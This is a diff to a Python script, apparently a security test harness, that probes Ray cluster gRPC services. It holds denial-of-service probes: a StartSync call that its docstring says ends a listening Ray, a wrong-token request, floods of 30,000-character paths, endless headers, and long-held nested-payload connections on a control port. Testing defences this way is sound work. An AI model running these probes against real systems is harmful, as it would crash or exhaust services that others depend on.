@@ -21,8 +21,8 @@ SYNC = "/ray.rpc.syncer.RaySyncer/StartSync"
 NODES = "/ray.rpc.NodeInfoGcsService/GetAllNodeInfo"
 
 
-def call_ray(host: str, ports: str, *folder: str) -> dict[str, str]:
-    """Two calls on each port, with no certificate, or with the one in `folder`; what came back.
+def call_ray(host: str, ports: str, most_s: str, *folder: str) -> dict[str, str]:
+    """Two calls of `most_s` seconds on each port, with no certificate, or with the one in `folder`; what came back.
 
     StartSync without its `node_id` metadata ends a Ray that listens to it. No token is sent unless `folder` has one.
     """
@@ -38,7 +38,7 @@ def call_ray(host: str, ports: str, *folder: str) -> dict[str, str]:
     def call(port: str, path: str) -> str:
         with channel(port) as open_channel:
             try:
-                for _ in open_channel.stream_stream(path)(iter([b""]), timeout=10):
+                for _ in open_channel.stream_stream(path)(iter([b""]), timeout=float(most_s)):
                     pass
                 return "answered"
             except grpc.RpcError as error:
@@ -57,7 +57,7 @@ def call_with_wrong_token(host: str, port: str, folder: str) -> dict[str, str]:
     credentials = grpc.ssl_channel_credentials(*(file.read_bytes() for file in files))
     with grpc.secure_channel(f"{host}:{port}", credentials) as channel:
         try:
-            channel.unary_unary(NODES)(b"", timeout=10, metadata=(("authorization", "Bearer " + "0" * 64),))
+            channel.unary_unary(NODES)(b"", timeout=120, metadata=(("authorization", "Bearer " + "0" * 64),))
             return {"answer": "answered"}
         except grpc.RpcError as error:
             return {"answer": error.code().name}
@@ -86,7 +86,9 @@ def take_ports_seen_in_command_lines(enough: str) -> dict[str, bool]:
     taken: dict[int, bool] = {}
     held = []
     print(json.dumps({"began": True}), flush=True)
-    while not Path(enough).exists():
+    is_last = False
+    while not is_last:
+        is_last = Path(enough).exists()  # what ran by then is seen once more
         for process in Path("/proc").iterdir():
             try:
                 line = (process / "cmdline").read_bytes().decode(errors="replace") if process.name.isdigit() else ""
@@ -151,15 +153,15 @@ def endless_headers(host: str, port: str, scheme: str, total: str) -> dict[str, 
     return {"sent": sent}
 
 
-def flood_log(host: str, port: str, scheme: str, seconds: str) -> dict[str, int]:
-    """Ask for long paths, without the key, as often as one connection can."""
+def flood_log(host: str, port: str, scheme: str, count: str) -> dict[str, int]:
+    """Ask for long paths, without the key, so many times, as fast as one connection can."""
     asked = 0
-    deadline = time.monotonic() + float(seconds)
+    deadline = time.monotonic() + 300
     request = b"GET /" + b"a" * 30_000 + b" HTTP/1.1\r\nHost: e\r\n\r\n"
-    while time.monotonic() < deadline:
+    while asked < int(count) and time.monotonic() < deadline:
         try:
             with reach(host, port, scheme) as connection:
-                while time.monotonic() < deadline:
+                while asked < int(count) and time.monotonic() < deadline:
                     connection.sendall(request)
                     if not connection.recv(4096):
                         break
@@ -170,7 +172,7 @@ def flood_log(host: str, port: str, scheme: str, seconds: str) -> dict[str, int]
 
 
 def flood_control(host: str, port: str, count: str) -> dict[str, int]:
-    """Open connections to the control port, say something deeply nested on each, and keep them open."""
+    """Open connections to the control port, say something deeply nested on each, and keep them open until ended."""
     connections: list[socket.socket] = []
     refused = 0
     for _ in range(int(count)):
@@ -181,7 +183,7 @@ def flood_control(host: str, port: str, count: str) -> dict[str, int]:
         except OSError:
             refused += 1
     print(json.dumps({"opened": len(connections), "refused": refused}), flush=True)
-    time.sleep(20)
+    time.sleep(3600)
     return {}
 
 
